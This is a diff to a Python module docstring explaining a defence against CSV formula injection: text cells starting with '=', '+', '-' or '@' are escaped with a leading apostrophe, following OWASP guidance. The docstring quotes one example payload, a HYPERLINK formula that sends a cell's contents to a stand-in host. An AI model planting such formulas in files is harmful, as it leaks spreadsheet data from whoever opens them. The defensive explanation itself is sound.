@@ -4,9 +4,10 @@ Excel and LibreOffice run a CSV cell that begins with ``=``, ``+``, ``-`` or ``@
 or carriage return before one) as a formula: a school name such as
 ``=HYPERLINK("http://x.example/?leak="&A1,"click")`` would become a live link in every
 office that opens the file. As OWASP's guidance on CSV injection says, such a text cell is
-written with a leading apostrophe, which spreadsheets show as text. Reading our own CSVs back
-removes that apostrophe, so a name keeps its meaning through a round trip. Numbers are not
-text: a negative cost stays a number.
+written with a leading apostrophe: a spreadsheet then shows the cell as text, the
+apostrophe visible, and runs nothing. Reading our own CSVs back removes that apostrophe, so a
+name keeps its meaning through a round trip. Numbers are not text: a negative cost stays a
+number.
 """
 
 from __future__ import annotations
